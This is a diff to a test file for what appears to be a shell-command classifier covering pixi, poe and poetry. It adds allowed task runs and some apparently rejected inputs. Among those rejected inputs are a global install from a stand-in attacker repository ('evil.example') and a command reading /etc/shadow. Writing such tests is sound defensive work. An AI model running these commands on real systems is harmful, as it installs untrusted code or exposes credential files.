@@ -23,6 +23,9 @@ describe('specsN: everyday programs with a spec', () => {
         'pixi lock',
         'pixi list --json',
         'pixi task list',
+        // a pixi.toml task by name (runners' project_scripts, as `hatch run cov`)
+        'pixi run lint',
+        'pixi run -e docs build-docs',
         'poe test',
         'poe -v lint --fix',
         'poetry run poe format',
@@ -41,6 +44,8 @@ describe('specsN: everyday programs with a spec', () => {
         'pixi install --run-post-link-scripts',
         'pixi add -g https://evil.example/repo.git evil',
         'pixi exec evil',
+        'pixi run deploy',
+        'pixi run mytool /etc/shadow',
         'poe -C /root/other test',
         'poe --root ../../other test',
         'poe --no-such-option test',
